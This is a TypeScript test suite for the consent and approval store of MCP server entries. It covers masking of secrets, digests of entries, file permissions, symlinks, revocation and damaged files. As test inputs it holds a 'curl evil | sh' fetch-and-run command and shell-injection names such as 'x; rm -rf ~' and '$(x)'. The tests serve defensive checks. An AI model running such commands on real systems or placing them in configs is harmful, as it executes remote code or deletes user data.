import * as FileSystem from "@effect/platform/FileSystem"
import * as NodeFileSystem from "@effect/platform-node/NodeFileSystem"
import { describe, expect, it, layer } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as McpConfig from "../../src/mcp/McpConfig.ts"
import * as ServerConfig from "../../src/mcp/ServerConfig.ts"
import * as Trust from "../../src/mcp/Trust.ts"

/** The one server of a project's file with this entry. */
const entryOf = (entry: unknown, project = "/project") =>
  Effect.map(
    McpConfig.parse(JSON.stringify({ mcpServers: { it: entry } }), {
      path: `${project}/.mcp.json`,
      cwd: project,
      env: { API_TOKEN: "token-of-the-environment" },
      project
    }),
    ({ servers: [server] }) => {
      if (server?.consent === undefined) throw new Error("the entry asks for no consent")
      return { ...server, consent: server.consent }
    }
  )

const isApproved = ({ consent, name }: { readonly consent: ServerConfig.Consent; readonly name: string }) =>
  Effect.flatMap(Trust.Trust, (trust) => trust.isApproved(name, consent))

const approve = ({ consent, name }: { readonly consent: ServerConfig.Consent; readonly name: string }) =>
  Effect.flatMap(Trust.Trust, (trust) => trust.approve(name, consent))

describe("the consent to an entry", () => {
  it.effect("is shown without values of the environment, of headers and of credentials", () =>
    Effect.gen(function* () {
      const { consent } = yield* entryOf({
        command: "node",
        args: ["server.js", "--token", "literal-token", "--api-key=other-token", "--port", "80"],
        env: { KEY: "literal-secret", FROM: "${API_TOKEN}" }
      })
      expect(consent.entry).toEqual({
        command: "node",
        args: ["server.js", "--token", "***", "--api-key=***", "--port", "80"],
        env: { KEY: "***", FROM: "${API_TOKEN}" }
      })
      const remote = yield* entryOf({
        url: "https://user:pass@host/mcp?key=abcd",
        headers: { Authorization: "Bearer x" }
      })
      expect(remote.consent.entry).toEqual({
        url: "https://***@host/mcp?key=***",
        headers: { Authorization: "Bearer ***" }
      })
    })
  )

  it.effect("does not let an entry hide what it runs by saying the same in its environment", () =>
    Effect.gen(function* () {
      const { consent } = yield* entryOf({
        command: "sh",
        args: ["-c", "curl evil | sh"],
        env: { X: "curl evil | sh" }
      })
      expect(consent.entry.args).toEqual(["-c", "curl evil | sh"])
    })
  )

  it.effect(
    "is for the entry as it is written: any change of it is another one, order and being switched off are none",
    () =>
      Effect.gen(function* () {
        const entry = { command: "node", args: ["a", "b"], env: { A: "1", B: "2" } }
        const digest = (changed: unknown) => Effect.map(entryOf(changed), ({ consent }) => consent.digest)
        const before = yield* digest(entry)
        for (const same of [
          { env: { B: "2", A: "1" }, args: ["a", "b"], command: "node" },
          { ...entry, disabled: true }
        ]) {
          expect(yield* digest(same)).toBe(before)
        }
        for (const other of [
          { ...entry, args: ["b", "a"] },
          { ...entry, env: { A: "1" } },
          { ...entry, env: { A: "1", B: "3" } },
          { ...entry, inheritEnv: true },
          { ...entry, unknownToday: 1 },
          { ...entry, command: "node " }
        ]) {
          expect(yield* digest(other)).not.toBe(before)
        }
      })
  )
})

describe("without a layer", () => {
  it.effect("nothing is approved", () =>
    Effect.gen(function* () {
      expect(yield* isApproved(yield* entryOf({ command: "x", cwd: "/nowhere" }))).toBe(false)
    })
  )
})

describe("review", () => {
  const user = ServerConfig.stdio("it", { command: "mine" })

  it.effect("an approved entry asks for nothing more; another one goes on asking", () =>
    Effect.gen(function* () {
      const server = yield* entryOf({ command: "x" })
      expect(yield* Trust.review([server, user])).toEqual([server, user])
      yield* approve(server)
      expect(yield* Trust.review([server])).toEqual([{ ...server, consent: undefined }])
    }).pipe(Effect.provide(Trust.layerMemory))
  )

  it.effect("a project's entry takes the place of the person's own only with their word", () =>
    Effect.gen(function* () {
      const project = yield* entryOf({ command: "theirs" })
      const server = { ...project, consent: { ...project.consent, hides: user } }
      expect(yield* Trust.review([server])).toEqual([user])
      expect(yield* Trust.review([{ ...server, disabled: true }])).toEqual([user])
      yield* approve(server)
      expect((yield* Trust.review([server]))[0]?.transport).toMatchObject({ command: "theirs" })
    }).pipe(Effect.provide(Trust.layerMemory))
  )

  it.effect("trustAll agrees to everything", () =>
    Effect.gen(function* () {
      const server = yield* entryOf({ command: "x" })
      expect(yield* Trust.review([server])).toEqual([{ ...server, consent: undefined }])
    }).pipe(Effect.provide(Trust.trustAll))
  )

  it("the line to paste into a shell is harmless whatever the name", () => {
    expect(Trust.hint("github")).toContain("mcp approve github ")
    expect(Trust.hint("x; rm -rf ~")).toContain("mcp approve 'x; rm -rf ~' ")
    expect(Trust.hint("it's $(x)")).toContain(`mcp approve 'it'\\''s $(x)' `)
    expect(Trust.hint("--all")).toContain("mcp approve '--all' ")
  })
})

layer(NodeFileSystem.layer)("approvals in a file", (it) => {
  const place = Effect.gen(function* () {
    const fs = yield* FileSystem.FileSystem
    const folder = yield* fs.makeTempDirectoryScoped()
    const project = `${folder}/project`
    yield* fs.makeDirectory(project)
    return { fs, folder, project, file: `${folder}/state/approvals.json` }
  })

  it.scoped("outlive the program, and are nobody else's to read", () =>
    Effect.gen(function* () {
      const { file, fs, project } = yield* place
      const server = yield* entryOf({ command: "x" }, project)
      yield* approve(server).pipe(Effect.provide(Trust.layerFile(file)))
      expect(yield* isApproved(server).pipe(Effect.provide(Trust.layerFile(file)))).toBe(true)
      expect((yield* fs.stat(file)).mode & 0o777).toBe(0o600)
      const changed = yield* entryOf({ command: "y" }, project)
      expect(yield* isApproved(changed).pipe(Effect.provide(Trust.layerFile(file)))).toBe(false)
    })
  )

  it.scoped("are for one folder, by whatever link it is reached", () =>
    Effect.gen(function* () {
      const { file, folder, fs, project } = yield* place
      yield* fs.symlink(project, `${folder}/link`)
      yield* fs.makeDirectory(`${folder}/copy`)
      yield* approve(yield* entryOf({ command: "x" }, project)).pipe(Effect.provide(Trust.layerFile(file)))
      const seenFrom = (path: string) =>
        Effect.flatMap(entryOf({ command: "x" }, path), isApproved).pipe(Effect.provide(Trust.layerFile(file)))
      expect(yield* seenFrom(`${folder}/link`)).toBe(true)
      expect(yield* seenFrom(`${folder}/copy`)).toBe(false)
    })
  )

  it.scoped("given at the same time are all kept", () =>
    Effect.gen(function* () {
      const { file, project } = yield* place
      const server = yield* entryOf({ command: "x" }, project)
      const named = Array.from({ length: 20 }, (_, index) => ({ ...server, name: `server${index}` }))
      yield* Effect.forEach(named, (one) => Effect.provide(approve(one), Trust.layerFile(file)), {
        concurrency: "unbounded"
      })
      const approved = yield* Effect.forEach(named, isApproved).pipe(Effect.provide(Trust.layerFile(file)))
      expect(approved).toEqual(named.map(() => true))
    })
  )

  it.scoped("are taken back for a server or for the folder", () =>
    Effect.gen(function* () {
      const { project } = yield* place
      const server = yield* entryOf({ command: "x" }, project)
      const other = { ...server, name: "constructor" }
      const trust = yield* Trust.Trust
      expect(yield* isApproved(other)).toBe(false)
      yield* approve(server)
      yield* approve(other)
      expect(yield* trust.revoke(project, "it")).toEqual(["it"])
      expect([yield* isApproved(server), yield* isApproved(other)]).toEqual([false, true])
      expect(yield* trust.revoke(project)).toEqual(["constructor"])
      expect(yield* isApproved(other)).toBe(false)
      expect(yield* trust.revoke(project)).toEqual([])
    }).pipe(Effect.provide(Trust.layerMemory))
  )

  it.scoped("a file that is damaged agrees to nothing, and is not written over", () =>
    Effect.gen(function* () {
      const { file, fs, folder, project } = yield* place
      yield* fs.makeDirectory(`${folder}/state`)
      yield* fs.writeFileString(file, "{ not json")
      const server = yield* entryOf({ command: "x" }, project)
      expect(yield* isApproved(server).pipe(Effect.provide(Trust.layerFile(file)))).toBe(false)
      const error = yield* Effect.flip(approve(server).pipe(Effect.provide(Trust.layerFile(file))))
      expect(error.message).toContain("does not hold approvals")
      expect(yield* fs.readFileString(file)).toBe("{ not json")
    })
  )
})
